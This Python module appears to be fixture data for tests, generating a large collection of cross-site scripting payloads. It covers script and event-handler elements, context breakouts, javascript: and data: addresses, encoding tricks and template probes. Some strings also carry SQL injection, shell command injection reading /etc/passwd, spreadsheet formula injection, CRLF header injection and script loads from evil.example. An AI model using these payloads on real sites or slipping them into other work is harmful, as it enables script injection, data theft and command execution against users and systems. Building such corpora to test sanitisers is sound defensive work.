"""Strings that have run as a script somewhere: elements, attributes, addresses, templates, broken encodings."""
# ruff: noqa: E501

_RUN = "alert(1)"
_ELEMENTS = (
    "<script>{}</script>", "<SCRIPT>{}</SCRIPT>", "<script src=//evil.example/x.js></script>", "<script\n>{}</script\n>",
    "<scr<script>ipt>{}</scr</script>ipt>", "<script type=module>{}</script>", "<script/x>{}</script>",
    "<img src=x onerror={}>", "<img src='x' onerror='{}'>", '<img src="x" onerror="{}">', "<img/src=x/onerror={}>",
    "<IMG SRC=javascript:{}>", "<svg onload={}>", "<svg/onload={}>", "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>", "<svg><a xlink:href=javascript:{}><text x=9 y=9>x</text></a></svg>",
    "<svg><set attributeName=href to=javascript:{} /></svg>", "<body onload={}>", "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>", "<object data=javascript:{}></object>", "<embed src=javascript:{}>",
    "<a href=javascript:{}>x</a>", "<a href='java\tscript:{}'>x</a>", "<a href=&#106;avascript:{}>x</a>",
    "<form action=javascript:{}><button>x</button></form>", "<button formaction=javascript:{}>x</button>",
    "<input autofocus onfocus={}>", "<select autofocus onfocus={}>", "<textarea autofocus onfocus={}>", "<keygen autofocus onfocus={}>",
    "<video><source onerror={}></video>", "<video src=x onerror={}>", "<audio src=x onerror={}>", "<details open ontoggle={}>",
    "<marquee onstart={}>", "<math><mtext></form><form><mglyph><style></math><img src=x onerror={}>",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>", "<base href=//evil.example/>", "<link rel=stylesheet href=//evil.example>",
    "<link rel=import href=data:text/html,<script>{}</script>>", "<style>@import '//evil.example';</style>",
    "<style>body{{background:url(javascript:{})}}</style>", "<div style='width:expression({})'>", "<div style=background:url(//evil.example)>",
    "<table background=javascript:{}>", "<isindex type=image src=1 onerror={}>", "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>", "<title><img src=x onerror={}></title>",
    "<xmp><img title='</xmp><img src=x onerror={}>'>", "<plaintext>{}", "<listing><img src=x onerror={}>", "<dialog open onclose={}>",
    "<p onpointerrawupdate={}>", "<x onclick={}>x</x>", "<custom-tag onmouseover={} tabindex=1>x", "<slot onslotchange={}>",
    "<portal src=javascript:{}>", "<applet code=javascript:{}>", "<frameset onload={}>", "<bgsound src=javascript:{}>",
)  # fmt: skip
_BREAKS = (
    '"><script>{}</script>', "'><script>{}</script>", "</title><script>{}</script>", "</script><script>{}</script>",
    "</textarea><script>{}</script>", "</style><script>{}</script>", "--><script>{}</script>", "]]><script>{}</script>",
    '" onmouseover="{}', "' onmouseover='{}", '" autofocus onfocus={} x="', "` onmouseover=`{}", "x onmouseover={} y", "\"/onclick={} x='",
    "</svg><img src=x onerror={}>", "</option></select><img src=x onerror={}>", "</bdi><img src=x onerror={}>", "</q></mark><svg onload={}>",
    "\\\"><img src=x onerror={}>", "\\';{}//", "\";{}//", "';{}//", "*/{}/*", "\n{}\n", "\u2028{}\u2029", "{}//<!--",
    "<!--><img src=x onerror={}>", "<!-- --!><img src=x onerror={}>", "<![CDATA[<img src=x onerror={}>]]>", "<?xml version='1.0'?><script>{}</script>",
    "<%00script>{}</script>", "<\x00script>{}</script>", "<scr\x00ipt>{}</script>", "\ufeff<script>{}</script>", "＜script＞{}＜/script＞",
    "\u202e<script>{}</script>", "\u2066\u202d<img src=x onerror={}>", "\x1b]0;x\x07<script>{}</script>", "+ADw-script+AD4-{}+ADw-/script+AD4-",
    "%3Cscript%3E{}%3C/script%3E", "%253Cscript%253E{}%253C/script%253E", "&lt;script&gt;{}&lt;/script&gt;", "&#60;script&#62;{}&#60;/script&#62;",
    "\\u003cscript\\u003e{}\\u003c/script\\u003e", "\\x3cscript\\x3e{}\\x3c/script\\x3e",
)  # fmt: skip
_ADDRESSES = (
    "javascript:{}", "JaVaScRiPt:{}", " javascript:{}", "java\nscript:{}", "java\tscript:{}", "javascript&colon;{}", "javascript://%0a{}",
    "data:text/html,<script>{}</script>", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "vbscript:{}", "//evil.example/{}",
    "https://evil.example/?{}", "\\\\evil.example\\{}", "file:///etc/passwd?{}", "blob:{}", "#{}", "?{}", "../{}", "..", "./{}", "/{}",
    "//{}", "%2f%2fevil.example/{}", "/%09/evil.example/{}",
)  # fmt: skip
_TEMPLATES = (
    "{{{{ 7*7 }}}} {}", "{{% import os %}} {}", "${{7*7}} {}", "#{{7*7}} {}", "<%= 7*7 %> {}", "{{{{ ''.__class__.__mro__ }}}} {}", "{{# {} #}}",
    "{{{{constructor.constructor('{}')()}}}}", "[[${{7*7}}]] {}", "*{{7*7}} {}", "=cmd|'/C calc'!A0 {}", "@SUM(1+1) {}", "{}", "' OR 1=1 -- {}",
    "\"; DROP TABLE reports; -- {}", "| cat /etc/passwd {}", "$(id) {}", "`id` {}", "\r\nSet-Cookie: x={}", "\r\n\r\n<script>{}</script>",
)  # fmt: skip
STRINGS = tuple(dict.fromkeys(pattern.format(_RUN) for pattern in (*_ELEMENTS, *_BREAKS, *_ADDRESSES, *_TEMPLATES)))
"""One of each kind, for tests that look at every page of every string."""

_EVENTS = (
    "abort afterprint afterscriptexecute animationcancel animationend animationiteration animationstart auxclick beforecopy "
    "beforecut beforeinput beforematch beforepaste beforeprint beforescriptexecute beforetoggle beforeunload begin blur "
    "bounce cancel canplay canplaythrough change click close contentvisibilityautostatechange contextmenu copy cuechange cut "
    "dblclick drag dragend dragenter dragexit dragleave dragover dragstart drop durationchange end ended error finish focus "
    "focusin focusout formdata fullscreenchange gesturechange gestureend gesturestart hashchange input invalid keydown keypress "
    "keyup load loadeddata loadedmetadata loadstart message mousedown mouseenter mouseleave mousemove mouseout mouseover mouseup "
    "mousewheel pagehide pageshow paste pause play playing pointercancel pointerdown pointerenter pointerleave pointermove "
    "pointerout pointerover pointerrawupdate pointerup popstate progress ratechange readystatechange repeat reset resize scroll "
    "scrollend scrollsnapchange search securitypolicyviolation seeked seeking select selectionchange selectstart show start "
    "stalled submit suspend timeupdate toggle touchcancel touchend touchmove touchstart transitioncancel transitionend "
    "transitionrun transitionstart unhandledrejection unload volumechange waiting webkitanimationend webkitanimationiteration "
    "webkitanimationstart webkitfullscreenchange webkitmouseforcechanged webkittransitionend wheel"
).split()
_HOLDERS = ("<x on{0}={1} tabindex=1 autofocus>x</x>", "<body on{0}={1}>", '"><img src=x on{0}={1}>', "<svg/on{0}={1}>", "' on{0}='{1}' x='")
_INSIDE = ("<script>{}</script>", "<img src=x onerror={}>", "<svg onload={}>", "<iframe src=javascript:{}></iframe>",
           "<a href=javascript:{} autofocus tabindex=1 onfocus={}>x</a>", "<details open ontoggle={}>")  # fmt: skip
_AROUND = ("</bdi>{}", "</q></mark>{}", "</title>{}", "</option></select>{}", "</textarea>{}", "'>{}", '">{}', "-->{}", "]]>{}",
           "<!--{}", "<![CDATA[{}]]>", "<svg><desc>{}</desc></svg>", "<math><mi>{}</mi></math>", "<noscript>{}</noscript>",
           "<template>{}</template>", "\x00{}", "\u2028{}", "%0d%0a{}", "\t{}\t", "<table><tr>{}", "<select>{}", "\\{}", "`{}`",
           "${{{}}}", "&quot;>{}", "<xmp>{}</xmp>", "<style>{}</style>", "<title>{}</title>", "<iframe>{}</iframe>", "{}<!--",
           "<br/{}", "<p title='{}'>", '<p title="{}">', "<p title=`{}`>", "<?{}?>", "<!{}>", "</{}>", "{0}{0}",
           "<form><button formaction='{}'>", "<object>{}</object>", "<marquee>{}</marquee>", "<frameset>{}</frameset>")  # fmt: skip
ALL = tuple(dict.fromkeys((
    *STRINGS,
    *(holder.format(event, _RUN) for event in _EVENTS for holder in _HOLDERS),
    *(around.format(inside.replace("{}", _RUN)) for around in _AROUND for inside in _INSIDE),
)))  # fmt: skip
"""Every event attribute that a browser has known, and each kind of element behind each kind of break."""
